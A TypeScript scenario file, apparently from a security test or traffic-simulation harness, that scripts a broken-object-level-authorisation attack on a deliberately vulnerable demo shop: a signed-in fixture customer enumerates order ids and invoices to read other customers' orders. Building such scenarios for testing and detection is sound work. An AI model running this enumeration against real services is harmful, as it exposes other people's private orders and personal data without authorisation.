/**
 * Broken object level authorisation, exploited by enumeration: a signed-in customer walks order ids one by one
 * (and their invoices), reading other customers' orders on the vulnerable shop.
 */
import { SHOP_ACCOUNTS } from '../../shop/shop-database.js';
import { bearerFrom, get, send, type Scenario, type ScenarioContext } from '../scenario.js';

export function* enumeration(ctx: ScenarioContext, ids: number): Scenario {
  const bob = SHOP_ACCOUNTS.find((a) => a.email === 'bob@shop.example')!;
  const login = yield send('POST', '/api/v2/auth/login', { email: bob.email, password: bob.password }, 0);
  const auth = bearerFrom(login);
  if (!auth) return;
  yield get('/api/v2/orders', ctx.paceMs, auth);
  for (let id = 1; id <= ids; id++) yield get(`/api/v2/orders/${id}`, ctx.paceMs, auth);
  for (let id = 1; id <= 3; id++) yield get(`/api/v2/invoices?orderId=${id}`, ctx.paceMs, auth);
}
